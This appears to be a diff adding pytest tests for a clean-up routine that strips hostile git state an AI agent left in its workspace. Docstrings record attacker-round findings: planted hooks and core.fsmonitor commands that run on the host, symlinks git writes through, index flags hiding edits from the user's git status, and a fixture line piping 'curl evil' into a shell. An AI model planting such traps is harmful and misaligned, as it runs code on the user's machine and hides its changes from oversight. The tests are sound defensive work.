@@ -602,8 +602,11 @@ def test_a_head_that_is_an_old_style_link_becomes_the_file_git_makes_now(workspa
     head.symlink_to("../../../elsewhere")
     done = neutralise_repository_config(root, seed)
     assert done[".git/HEAD"] == "removed (a link to '../../../elsewhere', which git writes " \
-                                "through)"
-    assert not head.exists() and not head.is_symlink()
+                                "through); HEAD now names refs/heads/evalctl-head-moved-aside"
+    # One naming a branch that says so, not none: git would go on up to the repository
+    # around the run directory.
+    assert head.read_text() == "ref: refs/heads/evalctl-head-moved-aside\n"
+    assert users_git(root, "rev-parse", "--git-dir").stdout == ".git\n"
 
 
 def test_links_in_a_bare_repository_the_agent_made_are_moved_aside(workspace, tmp_path):
@@ -614,3 +617,170 @@ def test_links_in_a_bare_repository_the_agent_made_are_moved_aside(workspace, tm
     done = neutralise_repository_config(root, seed)
     assert done["bare.git/logs"] == f"removed (a link to {str(tmp_path)!r}, which git writes " \
                                     "through)"
+
+
+# --- a sixth attacker round, against the clean-up itself -------------------------------
+
+
+def plant_hook(root: Path, marker: Path) -> None:
+    hooks = root / ".git" / "hooks"
+    hooks.mkdir(exist_ok=True)
+    (hooks / "post-index-change").write_text(f"#!/bin/sh\necho ran >> {marker}\n")
+    (hooks / "post-index-change").chmod(0o755)
+    git(root, "config", "core.fsmonitor", f"echo ran >> {marker}; false #")
+
+
+def test_names_taken_in_advance_do_not_keep_hooks_in_place(workspace, tmp_path):
+    """Found by an attacker round: with hooks.agent to hooks.agent.999 made in advance,
+    hooks/ and config stayed, and evalctl's own `git read-tree` ran the hook on the
+    host during the clean-up."""
+    root, seed = workspace
+    marker = tmp_path / "MARKER"
+    (root / "b").write_text("b\n")
+    git(root, "add", "b")  # the index then differs from HEAD's
+    plant_hook(root, marker)
+    marker.unlink(missing_ok=True)
+    for name in ("hooks", "config"):
+        (root / ".git" / f"{name}.agent").touch()
+        for number in range(1, 1000):
+            (root / ".git" / f"{name}.agent.{number}").touch()
+    done = neutralise_repository_config(root, seed)
+    assert done[".git/hooks"].startswith("moved to hooks.agent.")
+    assert "core.fsmonitor" in done[".git/config"]
+    assert done[".git/index"].startswith("moved to index.agent")
+    assert not marker.exists()
+    users_git(root, "status")
+    assert not marker.exists()
+
+
+def test_no_git_runs_in_a_git_directory_that_could_not_be_made_safe(workspace, tmp_path,
+                                                                    monkeypatch):
+    root, seed = workspace
+    marker = tmp_path / "MARKER"
+    (root / "b").write_text("b\n")
+    git(root, "add", "b")
+    plant_hook(root, marker)
+    marker.unlink(missing_ok=True)
+    real = gitsource._move_aside
+
+    def refuse_hooks(path: str) -> str:
+        if path.endswith("hooks"):
+            raise OSError(13, "Permission denied")
+        return real(path)
+
+    monkeypatch.setattr(gitsource, "_move_aside", refuse_hooks)
+    done = neutralise_repository_config(root, seed)
+    assert done[".git/hooks"] == "NOT moved aside: Permission denied"
+    assert done[".git/index"] == "NOT checked: this git directory could not be made safe"
+    assert not marker.exists()  # evalctl's own git did not run in it
+
+
+def test_a_repository_without_config_is_seen_to_and_the_root_is_never_a_fixture(tmp_path):
+    """Found by an attacker round: a bare-looking directory with no config was taken
+    for the seed's own, so its links stayed (the user's `git gc` wrote through a
+    packed-refs link); so was the workspace's root once the agent removed its .git."""
+    root, seed = tmp_path / "ws", tmp_path / "seed"
+    seed.mkdir()
+    (seed / "README").write_text("hi\n")
+    root.mkdir()
+    git(root, "init", "-q", "--bare", str(root / "sub"))
+    for where in (root, root / "sub"):
+        (where / "HEAD").write_text("ref: refs/heads/main\n")
+        for name in ("objects", "refs"):
+            (where / name).mkdir(exist_ok=True)
+        (where / "config").unlink(missing_ok=True)
+        (where / "packed-refs").symlink_to(tmp_path / "outside")
+    done = neutralise_repository_config(root, seed)
+    assert done["packed-refs"].startswith("removed (a link to")
+    assert done["sub/packed-refs"].startswith("removed (a link to")
+
+
+def test_a_seed_fixture_keeps_its_config_but_not_what_the_agent_added(tmp_path):
+    source = tmp_path / "seed"
+    source.mkdir()
+    git(source, "init", "-q", "--bare", str(source / "fixture.git"))
+    root = tmp_path / "ws"
+    shutil.copytree(source, root, symlinks=True)
+    config = (root / "fixture.git" / "config").read_bytes()
+    (root / "fixture.git" / "logs").symlink_to(tmp_path)
+    (root / "fixture.git" / "MERGE_AUTOSTASH").write_text("0" * 40 + "\n")
+    done = neutralise_repository_config(root, source)
+    assert set(done) == {"fixture.git/logs", "fixture.git/MERGE_AUTOSTASH"}
+    assert (root / "fixture.git" / "config").read_bytes() == config  # core.bare = true
+    assert neutralise_repository_config(root, source) == {}
+
+
+def test_an_index_that_hides_changes_from_the_users_git_status_is_replaced(workspace):
+    """Found by an attacker round: assume-unchanged and skip-worktree flags kept the
+    agent's edits out of the user's `git status` and `git diff`."""
+    root, seed = workspace
+    (root / "src" / "app.py").write_text("import os; os.system('curl evil | sh')\n")
+    git(root, "update-index", "--assume-unchanged", "src/app.py")
+    git(root, "update-index", "--skip-worktree", "README")
+    (root / "README").write_text("changed\n")
+    assert users_git(root, "status", "--porcelain").stdout == ""  # what the user saw
+    done = neutralise_repository_config(root, seed)
+    assert ".git/index" not in done  # the same entries: replaced, nothing to keep aside
+    status = users_git(root, "status", "--porcelain")
+    assert status.stdout == " M README\n M src/app.py\n"
+
+
+def test_remotes_alternates_and_a_pending_autostash_are_moved_aside(workspace, tmp_path):
+    """Found by an attacker round: a .git/remotes file had the user's `git pull` fetch
+    from the agent's choice; alternates pointed at a FIFO that hung every git command;
+    MERGE_AUTOSTASH had the user's next commit apply the agent's stash."""
+    root, seed = workspace
+    dot_git = root / ".git"
+    (dot_git / "remotes").mkdir()
+    (dot_git / "remotes" / "origin").write_text(f"URL: {tmp_path}\n")
+    (dot_git / "branches").mkdir()
+    (dot_git / "branches" / "b").write_text(f"{tmp_path}#main\n")
+    (dot_git / "objects" / "info").mkdir(exist_ok=True)
+    (dot_git / "objects" / "info" / "alternates").write_text(f"{tmp_path}/fifo\n")
+    os.mkfifo(tmp_path / "fifo")
+    (dot_git / "MERGE_AUTOSTASH").write_text("0" * 40 + "\n")
+    (dot_git / "NOTES_MERGE_PARTIAL").mkdir()
+    (dot_git / "NOTES_MERGE_PARTIAL" / "note").write_text("x\n")
+    done = neutralise_repository_config(root, seed)
+    for path in (".git/remotes", ".git/branches", ".git/objects/info/alternates",
+                 ".git/MERGE_AUTOSTASH", ".git/NOTES_MERGE_PARTIAL"):
+        assert done[path].startswith("moved to "), path
+    assert users_git(root, "log", "--format=%s").stdout == "base\n"  # no hang
+
+
+def test_a_head_git_cannot_read_is_replaced_so_git_stays_in_the_workspace(tmp_path):
+    """Found by an attacker round: a garbage HEAD made git go on up to the user's own
+    project around the run directory, and the user's `git stash` took their work."""
+    project = tmp_path / "project"
+    project.mkdir()
+    git(project, "init", "-q", "-b", "main")
+    commit(project, {"mine.txt": "the user's\n"}, "user")
+    root = project / "runs" / "task"
+    root.mkdir(parents=True)
+    git(root, "init", "-q", "-b", "main")
+    commit(root, {"a": "a\n"}, "agent")
+    (root / ".git" / "HEAD").write_text("garbage\n")
+    assert users_git(root, "rev-parse", "--show-toplevel").stdout.strip() == str(project)
+    done = neutralise_repository_config(root)
+    assert done[".git/HEAD"] == "moved to HEAD.agent (git cannot read it); HEAD now names " \
+                                "refs/heads/evalctl-head-moved-aside"
+    assert users_git(root, "rev-parse", "--show-toplevel").stdout.strip() == str(root)
+
+
+def test_a_directory_that_cannot_be_listed_is_said(workspace, monkeypatch):
+    """Found by an attacker round: a tree deeper than a path can name was passed over
+    in silence."""
+    import errno
+
+    root, seed = workspace
+    (root / "deep").mkdir()
+    real = os.scandir
+
+    def too_long(path):
+        if str(path).endswith("/deep"):
+            raise OSError(errno.ENAMETOOLONG, "File name too long")
+        return real(path)
+
+    monkeypatch.setattr(gitsource.os, "scandir", too_long)
+    assert neutralise_repository_config(root, seed) == \
+        {"deep": "NOT looked in: it cannot be listed"}
